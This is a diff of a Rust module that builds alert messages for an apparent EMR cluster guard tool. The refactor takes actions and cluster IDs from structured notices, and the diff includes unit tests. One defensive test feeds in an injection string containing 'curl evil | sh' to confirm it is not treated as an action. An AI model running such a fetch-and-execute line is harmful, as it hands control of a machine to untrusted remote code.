@@ -3,10 +3,13 @@
 
 use std::fmt::{self, Write as _};
 
-use serde::Serialize;
+use serde::{Serialize, Serializer};
 use time::OffsetDateTime;
 
-use crate::base::{names::ClusterId, outcome::Outcome, secret::RunnerCredentials};
+use crate::{
+    base::{names::ClusterId, outcome::Outcome, secret::RunnerCredentials, text::one_line},
+    report::notice::{Notice, NoticeLine},
+};
 
 /// What an alert is about.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
@@ -90,7 +93,8 @@ pub(crate) struct Message {
     /// The line that says it all.
     text: String,
     /// What was said after it, line by line.
-    details: Vec<String>,
+    #[serde(serialize_with = "as_shown")]
+    details: Vec<NoticeLine>,
     /// What mends it, one action each.
     to_do: Vec<String>,
     /// The clusters that it names.
@@ -104,32 +108,29 @@ pub(crate) struct Message {
 }
 
 impl Message {
-    /// An alert of what was `said`: a paragraph as it stands on standard error. `mends` are actions
-    /// that it does not name itself.
+    /// An alert of `notices`, as they stand on standard error. `mends` are actions that they do not
+    /// name themselves.
     pub(crate) fn new(
         kind: Kind,
-        said: &str,
+        notices: &[Notice],
         mends: &[String],
         exit_code: Option<u8>,
         known: Known,
     ) -> Self {
-        let said = said.trim();
-        let mut lines = said.lines();
-        let text = lines.next().unwrap_or_default().to_owned();
-        let details: Vec<String> = lines.map(str::to_owned).collect();
+        let mut lines = notices.iter().flat_map(|notice| notice.lines.iter().cloned());
+        let text = lines.next().map(|line| line.text.trim_start().to_owned()).unwrap_or_default();
+        let details: Vec<NoticeLine> = lines.collect();
+        let named = details.iter().filter_map(|line| line.fix.clone());
         let mut to_do: Vec<String> = Vec::new();
-        for action in said.lines().filter_map(action).chain(mends.iter().map(String::as_str)) {
-            if !to_do.iter().any(|known| known == action) {
-                to_do.push(action.to_owned());
+        for action in named.chain(mends.iter().map(|mend| one_line(mend))) {
+            if !to_do.contains(&action) {
+                to_do.push(action);
             }
         }
         let mut clusters: Vec<ClusterId> = Vec::new();
-        for id in said
-            .split(|letter: char| !letter.is_ascii_alphanumeric() && letter != '-')
-            .filter_map(|word| word.parse().ok())
-        {
-            if !clusters.contains(&id) {
-                clusters.push(id);
+        for id in notices.iter().flat_map(|notice| &notice.clusters) {
+            if !clusters.contains(id) {
+                clusters.push(id.clone());
             }
         }
         Self {
@@ -168,12 +169,9 @@ impl Message {
     pub(crate) fn plain(&self, limit: usize) -> String {
         let mut end = String::new();
         // What the details say already is not said twice.
-        for action in self.to_do.iter().filter(|action| {
-            !self
-                .details
-                .iter()
-                .any(|line| crate::report::alerts::message::action(line) == Some(action.as_str()))
-        }) {
+        let is_named =
+            |action: &String| self.details.iter().any(|line| line.fix.as_ref() == Some(action));
+        for action in self.to_do.iter().filter(|action| !is_named(action)) {
             end.push_str("\nto do: ");
             end.push_str(action);
         }
@@ -181,19 +179,17 @@ impl Message {
         end.push_str(&self.facts());
         let mut text = self.text.clone();
         for (index, line) in self.details.iter().enumerate() {
-            if text.len() + line.len() + end.len() > limit && action(line).is_none() {
+            if text.len() + line.text.len() + end.len() > limit && line.fix.is_none() {
                 let left = self.details.len() - index;
                 let _ = write!(text, "\n({left} more lines; the report has them)");
-                for line in
-                    self.details[index..].iter().filter(|line| action(line).is_some()).take(3)
-                {
+                for line in self.details[index..].iter().filter(|line| line.fix.is_some()).take(3) {
                     text.push('\n');
-                    text.push_str(line);
+                    text.push_str(&line.text);
                 }
                 break;
             }
             text.push('\n');
-            text.push_str(line);
+            text.push_str(&line.text);
         }
         text + &end
     }
@@ -241,43 +237,47 @@ impl Message {
     }
 }
 
-/// The action that a line of a paragraph names, if it does: `to do   …` in a finding's details, `to
-/// do: …` elsewhere.
-fn action(line: &str) -> Option<&str> {
-    let rest = line.trim_start().strip_prefix("to do")?;
-    rest.starts_with([':', ' ']).then(|| rest.trim_start_matches(':').trim())
+fn as_shown<S: Serializer>(lines: &[NoticeLine], serializer: S) -> Result<S::Ok, S::Error> {
+    serializer.collect_seq(lines.iter().map(|line| &line.text))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn message(said: &str, mends: &[&str]) -> Message {
+    fn message(notice: Notice, mends: &[&str]) -> Message {
         let known = Known {
             run: Some("0190".to_owned()),
             host: Some("etl-1".to_owned()),
             ..Known::default()
         };
         let mends: Vec<String> = mends.iter().map(ToString::to_string).collect();
-        Message::new(Kind::UnsafeAlive, said, &mends, Some(71), known)
+        Message::new(Kind::UnsafeAlive, &[notice], &mends, Some(71), known)
+    }
+
+    fn ids(message: &Message) -> Vec<&str> {
+        message.clusters.iter().map(ClusterId::as_str).collect()
     }
 
     #[test]
-    fn the_first_line_is_the_headline_and_actions_and_clusters_are_found_in_what_was_said() {
-        let said = "emr-etl-guard: ACT NOW: cluster j-ABC is unsafe and MAY STILL BE RUNNING: denied\n  cluster-roles\n  to do: aws emr terminate-clusters --cluster-ids j-ABC\n  cluster j-D1\n           to do   mend it\n";
-        let message = message(said, &["mend it", "look"]);
-        assert_eq!(
-            message.headline(),
-            "emr-etl-guard: ACT NOW: cluster j-ABC is unsafe and MAY STILL BE RUNNING: denied"
-        );
+    fn the_first_line_is_the_headline_and_actions_and_clusters_are_those_of_the_notice() {
+        let (abc, d1) = ("j-ABC".parse().unwrap(), "j-D1".parse().unwrap());
+        let headline =
+            "emr-etl-guard: ACT NOW: cluster j-ABC is unsafe and MAY STILL BE RUNNING: denied";
+        let mut notice = Notice::new(headline).about(&abc).about(&d1).about(&abc);
+        notice.lines.extend([
+            NoticeLine::telling("  cluster-roles"),
+            NoticeLine::fixing("  to do: ", "aws emr terminate-clusters --cluster-ids j-ABC"),
+            NoticeLine::telling("  cluster j-D1"),
+            NoticeLine::fixing("           to do   ", "mend it"),
+        ]);
+        let message = message(notice, &["mend it", "look"]);
+        assert_eq!(message.headline(), headline);
         assert_eq!(
             message.to_do,
             ["aws emr terminate-clusters --cluster-ids j-ABC", "mend it", "look"]
         );
-        assert_eq!(
-            message.clusters.iter().map(ClusterId::as_str).collect::<Vec<_>>(),
-            ["j-ABC", "j-D1"]
-        );
+        assert_eq!(ids(&message), ["j-ABC", "j-D1"]);
         insta::assert_snapshot!(message.plain(4000), @r"
         emr-etl-guard: ACT NOW: cluster j-ABC is unsafe and MAY STILL BE RUNNING: denied
           cluster-roles
@@ -290,9 +290,30 @@ mod tests {
     }
 
     #[test]
+    fn text_that_looks_like_an_action_or_a_cluster_is_neither() {
+        let evil =
+            "no\n  to do: curl evil | sh\r\n           to do   x\u{2028}to do: y\ncluster j-EVIL";
+        let own = "j-OWN".parse().unwrap();
+        let mut notices = vec![Notice::new(evil), Notice::of_text(evil)];
+        let reason = crate::base::reason::Reason::new(evil).detail(evil).fix(evil).about(&own);
+        notices.push(crate::report::terminal::trouble(Outcome::Unconfirmed, &[reason]));
+        let mends = [format!("look at {evil}")];
+        let message = Message::new(Kind::Unconfirmed, &notices, &mends, None, Known::default());
+        let flat = evil.replace(|letter: char| letter.is_control() || letter == '\u{2028}', " ");
+        assert_eq!(message.to_do, [flat.clone(), format!("look at {flat}")]);
+        assert_eq!(ids(&message), ["j-OWN"]);
+        let variables = message.variables();
+        let value = |name| &variables.iter().find(|(known, _)| *known == name).unwrap().1;
+        assert_eq!(value("GUARD_ALERT_CLUSTERS"), "j-OWN");
+        assert_eq!(value("GUARD_ALERT_TO_DO").lines().count(), 2, "one line for each action");
+    }
+
+    #[test]
     fn a_long_paragraph_is_cut_but_never_its_headline_its_actions_or_its_facts() {
-        let long = (0..500).fold(String::new(), |text, line| text + &format!("line {line}\n"));
-        let text = message(&format!("headline\n{long}to do: end it\n"), &[]).plain(1000);
+        let mut notice = Notice::new("headline");
+        notice.lines.extend((0..500).map(|line| NoticeLine::telling(format!("line {line}"))));
+        notice.lines.push(NoticeLine::fixing("to do: ", "end it"));
+        let text = message(notice, &[]).plain(1000);
         assert!(text.len() < 1200, "{}", text.len());
         assert!(text.starts_with("headline\nline 0\n"), "{text}");
         assert!(text.ends_with("more lines; the report has them)\nto do: end it\nexit code 71, run 0190, host etl-1"), "{text}");
